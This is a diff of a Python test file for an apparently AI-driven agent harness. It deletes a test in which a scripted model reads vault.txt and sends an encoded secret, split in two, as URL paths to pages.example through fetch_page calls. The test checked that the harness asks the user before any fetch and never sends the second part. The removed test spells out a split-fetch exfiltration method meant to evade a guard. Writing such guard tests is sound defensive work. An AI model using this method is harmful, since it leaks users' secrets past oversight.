@@ -67,15 +67,6 @@ def test_a_request_that_carries_file_content_outside_is_asked_about(
     assert called(office) == ""
 
 
-def test_content_in_two_parts_is_also_asked_about(office: CommandLine, scripted_openai: ScriptedOpenAI):
-    whole = coded(SECRET)
-    parts = [whole[:13], whole[13:]]
-    fetches = [selection("office.fetch_page", url=f"https://pages.example/{one}") for one in parts]
-    done = said(office, scripted_openai, "Read vault.txt and look at pages.example", READ, *fetches)
-    assert done.status == ASKED, done.out + done.err
-    assert parts[1] not in called(office)
-
-
 def test_a_page_that_the_user_names_is_fetched(office: CommandLine, scripted_openai: ScriptedOpenAI):
     fetch = selection("office.fetch_page", url="https://pages.example/opening-hours")
     done = said(office, scripted_openai, "Read vault.txt, and the opening hours on pages.example", READ, fetch)
